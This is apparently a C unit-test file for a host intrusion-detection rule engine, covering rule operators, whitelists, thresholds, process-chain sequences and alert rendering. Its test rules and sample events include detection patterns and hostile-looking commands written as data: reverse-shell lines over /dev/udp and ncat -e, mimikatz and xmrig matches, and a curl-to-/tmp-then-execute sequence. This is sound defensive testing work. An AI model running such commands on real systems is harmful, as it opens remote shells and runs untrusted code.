/* hub rule language and engine: every operator (and its case-insensitive form), all/any/not,
 * lists and macros across files, exceptions and the whitelist, compile errors with file:line,
 * thresholds, sequences by fields and by process chain, ancestors, alert merging, stable
 * alert ids, reload carrying state, and the envelope decoder. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "common/strbuf.h"
#include "envelope.pb-c.h"
#include "hub/alert.h"
#include "hub/engine.h"
#include "hub/event.h"
#include "hub/ruleset.h"

/* ---- helpers --------------------------------------------------------------------------- */

#define MAX_SEEN 64

typedef struct {
    size_t n;
    char rule[MAX_SEEN][RULE_ID_MAX + 1];
    char id[MAX_SEEN][33];
    alert_kind_t kind[MAX_SEEN];
    uint64_t count[MAX_SEEN];
    size_t nchain[MAX_SEEN];
    char chain0_exe[MAX_SEEN][PROC_EXE_MAX];
    char json[MAX_SEEN][4096];
    size_t jsonlen[MAX_SEEN], argvlen[MAX_SEEN]; /* of the whole rendered alert */
} seen_t;

static void collect(void *ud, const hub_alert_t *a)
{
    seen_t *s = ud;
    assert_true(s->n < MAX_SEEN);
    snprintf(s->rule[s->n], sizeof(s->rule[0]), "%s", a->rule->id);
    memcpy(s->id[s->n], a->id, 33);
    s->kind[s->n] = a->kind;
    s->count[s->n] = a->count;
    s->nchain[s->n] = a->nchain;
    snprintf(s->chain0_exe[s->n], PROC_EXE_MAX, "%s",
             a->nchain ? a->chain[a->nchain - 1]->exe : "");
    strbuf_t sb = STRBUF_INIT;
    alert_render(a, "hub-test", 0, &sb);
    snprintf(s->json[s->n], sizeof(s->json[0]), "%s", sb.data);
    s->jsonlen[s->n] = sb.len;
    json_t *j = json_loadb(sb.data, sb.len, 0, NULL);
    assert_non_null(j); /* every alert is valid JSON */
    const char *argv = json_string_value(json_object_get(json_object_get(j, "event"), "argv"));
    s->argvlen[s->n] = argv ? strlen(argv) : 0;
    json_decref(j);
    strbuf_dispose(&sb);
    s->n++;
}

typedef struct {
    Grpc__Payload__FieldsEntry ent[16];
    Grpc__Payload__FieldsEntry *ptr[16];
    hub_event_t ev;
} test_event_t;

static void freeev(test_event_t *t)
{
    for (size_t i = 0; i < t->ev.nfields; i++)
        free(t->ent[i].key);
}

/* Processes one event and returns the number of alerts. */
static int run(engine_t *e, int dt, int64_t time_s, const char *agent, ...)
{
    test_event_t t;
    memset(&t, 0, sizeof(t));
    va_list ap;
    va_start(ap, agent);
    size_t n = 0;
    for (const char *kv; (kv = va_arg(ap, const char *)) != NULL;) {
        const char *eq = strchr(kv, '=');
        grpc__payload__fields_entry__init(&t.ent[n]);
        t.ent[n].key = strndup(kv, (size_t)(eq - kv));
        t.ent[n].value = (char *)eq + 1;
        t.ptr[n] = &t.ent[n];
        n++;
    }
    va_end(ap);
    t.ev = (hub_event_t){.data_type = dt,
                         .time_ms = time_s * 1000,
                         .agent_id = agent,
                         .fields = t.ptr,
                         .nfields = n,
                         .partition = -1};
    t.ev.identity = hub_event_identity(&t.ev);
    int rc = engine_process(e, &t.ev);
    freeev(&t);
    return rc;
}

static ruleset_t *compile1(const char *yaml, char *err, size_t errlen)
{
    ruleset_source_t s = {.name = "t.yaml", .text = yaml, .len = strlen(yaml)};
    return ruleset_compile(&s, 1, err, errlen);
}

static engine_t *engine_with(const char *yaml, seen_t *seen)
{
    char err[512];
    ruleset_t *rs = compile1(yaml, err, sizeof(err));
    if (!rs)
        fail_msg("compile: %s", err);
    engine_opts_t o = {.proc_capacity = 64,
                       .group_capacity = 16,
                       .dedup_capacity = 16,
                       .emit = collect,
                       .emit_ud = seen};
    engine_t *e = engine_new(&o);
    assert_null(engine_set_ruleset(e, rs));
    return e;
}

static void engine_done(engine_t *e)
{
    ruleset_t *rs = (ruleset_t *)engine_ruleset(e);
    engine_free(e);
    ruleset_free(rs);
}

#define RULE_HDR(id) "  - id: " id "\n    name: " id "\n    severity: high\n"

/* ---- operators ------------------------------------------------------------------------- */

static void test_string_operators(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR(
            "eq") "    data_type: 59\n"
                  "    match: {exe: /bin/bash}\n" RULE_HDR(
                      "ieq") "    data_type: 59\n"
                             "    match: {comm: {iequals: NGINX}}\n" RULE_HDR(
                                 "in") "    data_type: 59\n"
                                       "    match: {comm: [perl, ruby]}\n" RULE_HDR(
                                           "sw") "    data_type: 59\n"
                                                 "    match: {argv: {startswith: 'wget "
                                                 "'}}\n" RULE_HDR(
                                                     "ew") "    data_type: 59\n"
                                                           "    match: {exe: {iendswith: "
                                                           "'.SH'}}\n" RULE_HDR(
                                                               "co") "    data_type: 59\n"
                                                                     "    match: {argv: {contains: "
                                                                     "['/dev/tcp/', "
                                                                     "'/dev/udp/']}}\n" RULE_HDR(
                                                                         "ico") "    data_type: "
                                                                                "59\n"
                                                                                "    match: {argv: "
                                                                                "{icontains: "
                                                                                "'MIMIKATZ'}}"
                                                                                "\n" RULE_HDR(
                                                                                    "re") "    "
                                                                                          "data_"
                                                                                          "type: "
                                                                                          "59\n"
                                                                                          "    "
                                                                                          "match: "
                                                                                          "{argv: "
                                                                                          "{regex: "
                                                                                          "'nc(at)?"
                                                                                          " .*-e "
                                                                                          "'}}"
                                                                                          "\n" RULE_HDR(
                                                                                              "ire") "    data_type: 59\n"
                                                                                                     "    match: {argv: {iregex: '^xmrig'}}\n",
        &s);
    assert_int_equal(run(e, 59, 1, "a", "exe=/bin/bash", NULL), 1);
    assert_string_equal(s.rule[0], "eq");
    assert_int_equal(run(e, 59, 1, "a", "exe=/bin/bash ", NULL), 0); /* exact */
    assert_int_equal(run(e, 59, 1, "a", "exe=/usr/bin/bash", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "comm=Nginx", NULL), 1);
    assert_string_equal(s.rule[1], "ieq");
    assert_int_equal(run(e, 59, 1, "a", "comm=ruby", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "comm=rubyx", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "argv=wget http://x", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "argv= wget http://x", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "exe=/tmp/x.sh", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "exe=/tmp/x.sh.bak", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "argv=bash -i >& /dev/udp/1.2.3.4/53", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "argv=run mimiKatz now", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "argv=ncat 1.2.3.4 -e /bin/sh", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "argv=cat 1.2.3.4 -e /bin/sh", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "argv=XMRig --donate 0", NULL), 1);
    /* a field absent, another data_type: nothing */
    assert_int_equal(run(e, 59, 1, "a", "uid=0", NULL), 0);
    assert_int_equal(run(e, 42, 1, "a", "exe=/bin/bash", NULL), 0);
    /* two rules at once */
    assert_int_equal(run(e, 59, 1, "a", "exe=/bin/bash", "argv=wget http://x", NULL), 2);
    engine_done(e);
}

static void test_numeric_cidr_exists_same(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "lists:\n  private: [10.0.0.0/8, 192.168.0.0/16, 'fd00::/8']\n"
        "rules:\n" RULE_HDR(
            "port") "    data_type: 42\n"
                    "    match: {all: [{dport: {ge: 4000, lt: 5000}}, {not: {dip: {cidr: "
                    "$private}}}]}\n" RULE_HDR(
                        "ex") "    data_type: 59\n"
                              "    match: {ld_preload: {exists: true}}\n" RULE_HDR(
                                  "noex") "    data_type: 49\n"
                                          "    match: {sip: {exists: false}}\n" RULE_HDR(
                                              "same") "    data_type: 59\n"
                                                      "    match: {stdin: {startswith: 'socket:'}, "
                                                      "stdout: {same_as: stdin}}\n",
        &s);
    assert_int_equal(run(e, 42, 1, "a", "dport=4444", "dip=8.8.8.8", NULL), 1);
    assert_int_equal(run(e, 42, 1, "a", "dport=4444", "dip=10.1.2.3", NULL), 0);
    assert_int_equal(run(e, 42, 1, "a", "dport=4444", "dip=fd00::1", NULL), 0);
    assert_int_equal(run(e, 42, 1, "a", "dport=4444", "dip=2001:db8::1", NULL), 1);
    assert_int_equal(run(e, 42, 1, "a", "dport=5000", "dip=8.8.8.8", NULL), 0);
    assert_int_equal(run(e, 42, 1, "a", "dport=3999", "dip=8.8.8.8", NULL), 0);
    assert_int_equal(run(e, 42, 1, "a", "dport=x", "dip=8.8.8.8", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "ld_preload=/tmp/x.so", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "ld_preload=", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "ld_preload=-1", NULL), 0);
    assert_int_equal(run(e, 49, 1, "a", "sport=1", NULL), 1);
    assert_int_equal(run(e, 49, 1, "a", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "stdin=socket:[1]", "stdout=socket:[1]", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "stdin=socket:[1]", "stdout=/dev/pts/0", NULL), 0);
    engine_done(e);
}

static void test_any_not_macros_lists_across_files(void **state)
{
    (void)state;
    const char *a = "lists:\n  shells: [bash, sh]\n  more_shells: [$shells, zsh]\n"
                    "macros:\n  is_shell: {comm: {in: $more_shells}}\n";
    const char *b = "rules:\n" RULE_HDR(
        "r") "    data_type: 59\n"
             "    match:\n      any:\n        - all: [{macro: is_shell}, {not: {uid: '0'}}]\n"
             "        - {argv: {contains: evil}}\n"
             "    exceptions:\n      - {argv: {contains: 'ansible'}}\n";
    ruleset_source_t src[] = {{.name = "a.yaml", .text = a, .len = strlen(a)},
                              {.name = "b.yaml", .text = b, .len = strlen(b)}};
    char err[256];
    ruleset_t *rs = ruleset_compile(src, 2, err, sizeof(err));
    if (!rs)
        fail_msg("%s", err);
    seen_t s = {0};
    engine_opts_t o = {.emit = collect, .emit_ud = &s};
    engine_t *e = engine_new(&o);
    engine_set_ruleset(e, rs);
    assert_int_equal(run(e, 59, 1, "a", "comm=zsh", "uid=1000", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "comm=zsh", "uid=0", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "comm=fish", "uid=1000", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "comm=fish", "argv=evil", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "comm=bash", "argv=ansible evil", NULL), 0);
    assert_int_equal(engine_stats(e)->excepted, 1);
    engine_done(e);
}

static void test_whitelist(void **state)
{
    (void)state;
    const char *r =
        "rules:\n" RULE_HDR("rev_a") "    data_type: 59\n    match: {comm: nc}\n" RULE_HDR(
            "other") "    data_type: 59\n    match: {comm: nc}\n";
    const char *w = "whitelist:\n  - id: tmux\n    rules: ['rev_*']\n"
                    "    match: {ancestor.comm: tmux}\n    comment: admins use tmux\n";
    ruleset_source_t src[] = {{.name = "r.yaml", .text = r, .len = strlen(r)},
                              {.name = "w.yaml", .text = w, .len = strlen(w)}};
    char err[256];
    ruleset_t *rs = ruleset_compile(src, 2, err, sizeof(err));
    if (!rs)
        fail_msg("%s", err);
    seen_t s = {0};
    engine_opts_t o = {.emit = collect, .emit_ud = &s};
    engine_t *e = engine_new(&o);
    engine_set_ruleset(e, rs);
    run(e, 59, 1, "a", "pid=10", "ppid=1", "comm=tmux", "exe=/usr/bin/tmux", NULL);
    run(e, 59, 1, "a", "pid=11", "ppid=10", "comm=bash", "exe=/bin/bash", NULL);
    assert_int_equal(run(e, 59, 2, "a", "pid=12", "ppid=11", "comm=nc", NULL), 1);
    assert_string_equal(s.rule[0], "other");
    assert_int_equal(engine_stats(e)->whitelisted, 1);
    /* elsewhere both fire */
    assert_int_equal(run(e, 59, 2, "a", "pid=20", "ppid=1", "comm=nc", NULL), 2);
    engine_done(e);
}

static void expect_error(const char *yaml, const char *needle)
{
    char err[512];
    ruleset_t *rs = compile1(yaml, err, sizeof(err));
    if (rs)
        fail_msg("compiled but expected an error with \"%s\"", needle);
    if (!strstr(err, needle))
        fail_msg("error \"%s\" lacks \"%s\"", err, needle);
}

static void test_compile_errors(void **state)
{
    (void)state;
    expect_error("rules: [\n", "t.yaml:");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: {startwith: a}}\n",
                 "t.yaml:6: unknown operator \"startwith\"");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: {regex: '(a'}}\n",
                 "t.yaml:6: bad regex");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: huge\n    data_type: 59\n"
                 "    match: {exe: a}\n",
                 "t.yaml:4: severity");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {macro: nope}\n",
                 "t.yaml:6: unknown macro");
    expect_error("macros:\n  m: {macro: m}\nrules:\n  - id: x\n    name: x\n    severity: high\n"
                 "    data_type: 59\n    match: {macro: m}\n",
                 "refers to itself");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: $nolist}\n",
                 "unknown list $nolist");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: a}\n  - id: x\n    name: y\n    severity: low\n"
                 "    data_type: 59\n    match: {exe: b}\n",
                 "t.yaml:7: rule \"x\" is already defined at t.yaml:2");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {dip: {cidr: 10.0.0.0/33}}\n",
                 "is not an address or network");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: a}\n    attack: [T59]\n",
                 "technique id");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: a}\n    bogus: 1\n",
                 "t.yaml:7: rule: unknown key \"bogus\"");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {exe: {contains: ''}}\n",
                 "empty value");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 4000\n"
                 "    match: {status: failed}\n    threshold: {count: 0, window: 60s}\n",
                 "threshold.count");
    expect_error("rules:\n  - id: x\n    name: x\n    severity: high\n    data_type: 59\n"
                 "    match: {parent.cwd: a}\n",
                 "unknown process attribute");
}

/* ---- stateful ------------------------------------------------------------------------------ */

static void test_threshold(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR("brute") "    data_type: 4000\n"
                                     "    match: {status: failed}\n"
                                     "    threshold: {count: 3, window: 60s, by: [sip]}\n"
                                     "    key: [sip]\n" RULE_HDR(
                                         "scan") "    data_type: 42\n"
                                                 "    match: {dport: {exists: true}}\n"
                                                 "    threshold: {count: 3, window: 10s, by: "
                                                 "[dip], distinct: dport}\n",
        &s);
    assert_int_equal(run(e, 4000, 100, "a", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 101, "a", "status=failed", "sip=2.2.2.2", NULL), 0);
    assert_int_equal(run(e, 4000, 102, "a", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 103, "b", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 104, "a", "status=success", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 105, "a", "status=failed", "sip=1.1.1.1", NULL), 1);
    assert_string_equal(s.rule[0], "brute");
    assert_non_null(strstr(s.json[0], "\"observed\":3"));
    /* outside the window: the old ones no longer count */
    assert_int_equal(run(e, 4000, 200, "a", "status=failed", "sip=2.2.2.2", NULL), 0);
    assert_int_equal(run(e, 4000, 201, "a", "status=failed", "sip=2.2.2.2", NULL), 0);
    assert_int_equal(run(e, 4000, 300, "a", "status=failed", "sip=2.2.2.2", NULL), 0);
    /* distinct ports */
    assert_int_equal(run(e, 42, 1, "a", "dip=9.9.9.9", "dport=22", NULL), 0);
    assert_int_equal(run(e, 42, 2, "a", "dip=9.9.9.9", "dport=22", NULL), 0);
    assert_int_equal(run(e, 42, 3, "a", "dip=9.9.9.9", "dport=80", NULL), 0);
    assert_int_equal(run(e, 42, 4, "a", "dip=9.9.9.9", "dport=443", NULL), 1);
    engine_done(e);
}

static void test_sequence_by_fields(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR("after") "    data_type: 4000\n"
                                     "    sequence:\n      within: 5m\n      by: [sip]\n"
                                     "      steps:\n        - {match: {status: failed}, count: 2}\n"
                                     "        - {match: {status: success}}\n",
        &s);
    assert_int_equal(run(e, 4000, 1, "a", "status=success", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 2, "a", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 3, "a", "status=success", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 4, "a", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 5, "a", "status=failed", "sip=1.1.1.1", NULL), 0);
    assert_int_equal(run(e, 4000, 6, "a", "status=success", "sip=2.2.2.2", NULL), 0);
    assert_int_equal(run(e, 4000, 7, "a", "status=success", "sip=1.1.1.1", NULL), 1);
    /* too late */
    assert_int_equal(run(e, 4000, 10, "a", "status=failed", "sip=3.3.3.3", NULL), 0);
    assert_int_equal(run(e, 4000, 11, "a", "status=failed", "sip=3.3.3.3", NULL), 0);
    assert_int_equal(run(e, 4000, 400, "a", "status=success", "sip=3.3.3.3", NULL), 0);
    engine_done(e);
}

static void test_sequence_by_process_and_chain(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR(
            "dl_exec") "    sequence:\n      within: 60s\n      by: process\n"
                       "      steps:\n        - {data_type: 59, match: {comm: [curl, wget]}}\n"
                       "        - {data_type: 59, match: {exe: {startswith: /tmp/}}}\n" RULE_HDR(
                           "web_shell") "    data_type: 59\n    match: {comm: sh, ancestor.comm: "
                                        "nginx, parent.comm: php-fpm}\n",
        &s);
    run(e, 59, 1, "a", "pid=100", "ppid=1", "exe=/usr/sbin/sshd", "comm=sshd", NULL);
    run(e, 59, 2, "a", "pid=200", "ppid=100", "exe=/bin/bash", "comm=bash", NULL);
    assert_int_equal(run(e, 59, 3, "a", "pid=300", "ppid=200", "exe=/usr/bin/curl", "comm=curl",
                         "argv=curl -o /tmp/x http://e", NULL),
                     0);
    run(e, 60, 4, "a", "pid=300", NULL); /* curl exits */
    /* /tmp/x from another shell: not the same chain */
    run(e, 59, 5, "a", "pid=201", "ppid=100", "exe=/bin/bash", "comm=bash", NULL);
    assert_int_equal(run(e, 59, 6, "a", "pid=301", "ppid=201", "exe=/tmp/x", "comm=x", NULL), 0);
    /* from the shell that ran curl: fires, with the chain x <- bash <- sshd */
    assert_int_equal(run(e, 59, 7, "a", "pid=302", "ppid=200", "exe=/tmp/x", "comm=x", NULL), 1);
    assert_string_equal(s.rule[0], "dl_exec");
    assert_int_equal(s.nchain[0], 3);
    assert_string_equal(s.chain0_exe[0], "/usr/sbin/sshd");
    assert_non_null(strstr(s.json[0], "\"process_chain\":[{\"pid\":302,\"ppid\":200"));
    /* other agent: separate tables */
    assert_int_equal(run(e, 59, 8, "b", "pid=302", "ppid=200", "exe=/tmp/x", "comm=x", NULL), 0);
    /* ancestors */
    run(e, 59, 10, "a", "pid=500", "ppid=1", "exe=/usr/sbin/nginx", "comm=nginx", NULL);
    run(e, 59, 11, "a", "pid=501", "ppid=500", "exe=/usr/sbin/php-fpm", "comm=php-fpm", NULL);
    assert_int_equal(run(e, 59, 12, "a", "pid=502", "ppid=501", "comm=sh", NULL), 1);
    assert_int_equal(run(e, 59, 12, "a", "pid=503", "ppid=500", "comm=sh", NULL), 0);
    engine_done(e);
}

static void test_merge_and_stable_ids(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR("m") "    data_type: 59\n"
                                 "    match: {comm: nc}\n    key: [exe]\n    dedup: 30s\n",
        &s);
    assert_int_equal(run(e, 59, 100, "a", "comm=nc", "exe=/bin/nc", "pid=1", NULL), 1);
    assert_int_equal(run(e, 59, 101, "a", "comm=nc", "exe=/bin/nc", "pid=2", NULL), 0);
    assert_int_equal(run(e, 59, 102, "a", "comm=nc", "exe=/bin/nc", "pid=3", NULL), 0);
    assert_int_equal(run(e, 59, 102, "a", "comm=nc", "exe=/usr/bin/nc", "pid=4", NULL), 1);
    assert_int_equal(run(e, 59, 102, "b", "comm=nc", "exe=/bin/nc", "pid=4", NULL), 1);
    assert_int_equal(s.n, 3);
    assert_int_equal(engine_stats(e)->merged, 2);
    /* the window ends: one update with the count and the first alert's id */
    assert_int_equal(engine_flush(e, 120 * 1000), 0);
    assert_int_equal(engine_flush(e, 131 * 1000), 1);
    assert_int_equal(s.n, 4);
    assert_int_equal(s.kind[3], ALERT_UPDATE);
    assert_int_equal(s.count[3], 3);
    assert_string_equal(s.id[3], s.id[0]);
    assert_non_null(strstr(s.json[3], "\"kind\":\"update\""));
    /* the same event again after a restart gets the same id; another event another id */
    char first[33];
    memcpy(first, s.id[0], 33);
    engine_reset_state(e);
    assert_int_equal(run(e, 59, 100, "a", "comm=nc", "exe=/bin/nc", "pid=1", NULL), 1);
    assert_string_equal(s.id[4], first);
    assert_int_equal(run(e, 59, 500, "a", "comm=nc", "exe=/bin/nc", "pid=9", NULL), 1);
    assert_string_not_equal(s.id[5], first);
    assert_int_equal(strlen(first), 32);
    engine_done(e);
}

static void test_reload_keeps_state(void **state)
{
    (void)state;
    seen_t s = {0};
    const char *y =
        "rules:\n" RULE_HDR("brute") "    data_type: 4000\n"
                                     "    match: {status: failed}\n"
                                     "    threshold: {count: 3, window: 60s, by: [sip]}\n";
    engine_t *e = engine_with(y, &s);
    run(e, 4000, 1, "a", "status=failed", "sip=1.1.1.1", NULL);
    run(e, 4000, 2, "a", "status=failed", "sip=1.1.1.1", NULL);
    char err[256];
    ruleset_t *rs2 = compile1(y, err, sizeof(err));
    assert_non_null(rs2);
    ruleset_free(engine_set_ruleset(e, rs2));
    assert_int_equal(run(e, 4000, 3, "a", "status=failed", "sip=1.1.1.1", NULL), 1);
    engine_done(e);
}

static void test_override_and_disable(void **state)
{
    (void)state;
    const char *base =
        "rules:\n" RULE_HDR("r1") "    data_type: 59\n    match: {comm: a}\n" RULE_HDR(
            "r2") "    data_type: 59\n    match: {comm: b}\n";
    const char *push = "rules:\n" RULE_HDR(
        "r1") "    data_type: 59\n    match: {comm: c}\n"
              "  - {id: r2, name: r2, severity: low, data_type: 59, match: {comm: b}, "
              "enabled: false}\n";
    ruleset_source_t src[] = {
        {.name = "base.yaml", .text = base, .len = strlen(base)},
        {.name = "pushed", .text = push, .len = strlen(push), .override = true}};
    char err[256];
    ruleset_t *rs = ruleset_compile(src, 2, err, sizeof(err));
    if (!rs)
        fail_msg("%s", err);
    assert_int_equal(rs->nrules, 1);
    assert_int_equal(ruleset_find(rs, "r2"), -1);
    seen_t s = {0};
    engine_opts_t o = {.emit = collect, .emit_ud = &s};
    engine_t *e = engine_new(&o);
    engine_set_ruleset(e, rs);
    assert_int_equal(run(e, 59, 1, "a", "comm=a", NULL), 0);
    assert_int_equal(run(e, 59, 1, "a", "comm=c", NULL), 1);
    assert_int_equal(run(e, 59, 1, "a", "comm=b", NULL), 0);
    engine_done(e);
}

static void test_process_table_bounded(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with("rules:\n" RULE_HDR("x") "    data_type: 59\n"
                                                       "    match: {parent.comm: init}\n",
                              &s);
    char pid[32], ppid[32];
    for (int i = 0; i < 1000; i++) {
        snprintf(pid, sizeof(pid), "pid=%d", 1000 + i);
        snprintf(ppid, sizeof(ppid), "ppid=%d", 999 + i);
        run(e, 59, i, "a", pid, ppid, "comm=w", NULL);
    }
    assert_int_equal(engine_proc_count(e), 64); /* the capacity */
    engine_done(e);
}

static void test_alert_json_any_bytes(void **state)
{
    (void)state;
    seen_t s = {0};
    engine_t *e = engine_with(
        "rules:\n" RULE_HDR("j") "    data_type: 59\n"
                                 "    match: {argv: {contains: 'x'}}\n    key: [argv]\n",
        &s);
    assert_int_equal(run(e, 59, 1, "a",
                         "argv=x\xe3 \xff\xc0\x80\"\\\x01 caf\xc3\xa9 \xf0\x9f\x98\x80",
                         "exe=/bin/x", NULL),
                     1);
    json_error_t je;
    json_t *j = json_loads(s.json[0], 0, &je);
    if (!j)
        fail_msg("alert is not JSON: %s: %s", je.text, s.json[0]);
    const char *argv = json_string_value(json_object_get(json_object_get(j, "event"), "argv"));
    assert_string_equal(argv, "x\xef\xbf\xbd \xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"\\\x01 "
                              "caf\xc3\xa9 \xf0\x9f\x98\x80");
    assert_string_equal(json_string_value(json_object_get(json_object_get(j, "key"), "argv")),
                        argv);
    json_decref(j);
    /* a huge value is cut, so the alert fits a Kafka message */
    static char huge[100000];
    memset(huge, 'x', sizeof(huge) - 1);
    memcpy(huge, "argv=", 5);
    assert_int_equal(run(e, 59, 2, "a", huge, "exe=/bin/y", NULL), 1);
    assert_true(s.jsonlen[1] < 2 * ALERT_VALUE_MAX + 4096); /* argv in event and in key */
    assert_int_equal(s.argvlen[1], ALERT_VALUE_MAX + 3);    /* the cut value, then U+2026 */
    engine_done(e);
}

typedef int (*decode_fn)(event_decoder_t *, const void *, size_t, hub_event_t *);

static void check_decoder(decode_fn decode)
{
    Grpc__Payload p = GRPC__PAYLOAD__INIT;
    Grpc__Payload__FieldsEntry f1 = GRPC__PAYLOAD__FIELDS_ENTRY__INIT,
                               f2 = GRPC__PAYLOAD__FIELDS_ENTRY__INIT;
    f1.key = "exe";
    f1.value = "/bin/bash";
    f2.key = "pid";
    f2.value = "42";
    Grpc__Payload__FieldsEntry *fp[] = {&f1, &f2};
    p.fields = fp;
    p.n_fields = 2;
    uint8_t pbuf[256];
    size_t plen = grpc__payload__pack(&p, pbuf);
    Rampart__Envelope env = RAMPART__ENVELOPE__INIT;
    env.data_type = 59;
    env.agent_time = 1700000000;
    env.agent_id = "agent-1";
    env.hostname = "h";
    env.payload.data = pbuf;
    env.payload.len = plen;
    uint8_t buf[512];
    size_t len = rampart__envelope__pack(&env, buf);
    event_decoder_t *d = event_decoder_new();
    hub_event_t ev;
    for (int round = 0; round < 3; round++) {
        assert_int_equal(decode(d, buf, len, &ev), 0);
        assert_int_equal(ev.data_type, 59);
        assert_int_equal(ev.time_ms, 1700000000000LL);
        assert_string_equal(ev.agent_id, "agent-1");
        assert_string_equal(hub_event_field(&ev, "exe"), "/bin/bash");
        assert_string_equal(hub_event_field(&ev, "pid"), "42");
    }
    assert_ptr_equal(ev.raw, buf);
    assert_int_equal(ev.raw_len, len);
    /* garbage and truncation are refused, never a crash */
    assert_int_equal(decode(d, "\xff\xff\xff", 3, &ev), -EINVAL);
    for (size_t cut = 1; cut < len; cut++)
        (void)decode(d, buf, cut, &ev);
    env.agent_id = "";
    len = rampart__envelope__pack(&env, buf);
    assert_int_equal(decode(d, buf, len, &ev), -EINVAL);
    /* a large message grows the arena once */
    static char big[100000];
    memset(big, 'a', sizeof(big) - 1);
    f1.value = big;
    uint8_t *pb = malloc(200000), *eb = malloc(200100);
    env.agent_id = "agent-1";
    env.payload.data = pb;
    env.payload.len = grpc__payload__pack(&p, pb);
    len = rampart__envelope__pack(&env, eb);
    assert_int_equal(decode(d, eb, len, &ev), 0);
    assert_int_equal(strlen(hub_event_field(&ev, "exe")), sizeof(big) - 1);
    assert_int_equal(decode(d, eb, len, &ev), 0);
    /* many fields: the decoder's field table grows (64, 128, 256) and every field read back
     * is the one written (the table's pointers once kept pointing at the old storage) */
    enum { NF = 300 };
    static Grpc__Payload__FieldsEntry many[NF];
    static Grpc__Payload__FieldsEntry *manyp[NF];
    static char keys[NF][16], vals[NF][16];
    for (int i = 0; i < NF; i++) {
        grpc__payload__fields_entry__init(&many[i]);
        snprintf(keys[i], sizeof(keys[i]), "k%d", i);
        snprintf(vals[i], sizeof(vals[i]), "v%d", i);
        many[i].key = keys[i];
        many[i].value = vals[i];
        manyp[i] = &many[i];
    }
    p.fields = manyp;
    p.n_fields = NF;
    env.payload.len = grpc__payload__pack(&p, pb);
    len = rampart__envelope__pack(&env, eb);
    assert_int_equal(decode(d, eb, len, &ev), 0);
    assert_int_equal(ev.nfields, NF);
    for (int i = 0; i < NF; i++) {
        assert_string_equal(ev.fields[i]->key, keys[i]);
        assert_string_equal(ev.fields[i]->value, vals[i]);
    }
    free(pb);
    free(eb);
    event_decoder_free(d);
}

static void test_envelope_decode(void **state)
{
    (void)state;
    check_decoder(event_decode);    /* the wire decoder */
    check_decoder(event_decode_pb); /* protobuf-c's unpack, the reference */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_string_operators),
        cmocka_unit_test(test_numeric_cidr_exists_same),
        cmocka_unit_test(test_any_not_macros_lists_across_files),
        cmocka_unit_test(test_whitelist),
        cmocka_unit_test(test_compile_errors),
        cmocka_unit_test(test_threshold),
        cmocka_unit_test(test_sequence_by_fields),
        cmocka_unit_test(test_sequence_by_process_and_chain),
        cmocka_unit_test(test_merge_and_stable_ids),
        cmocka_unit_test(test_reload_keeps_state),
        cmocka_unit_test(test_override_and_disable),
        cmocka_unit_test(test_process_table_bounded),
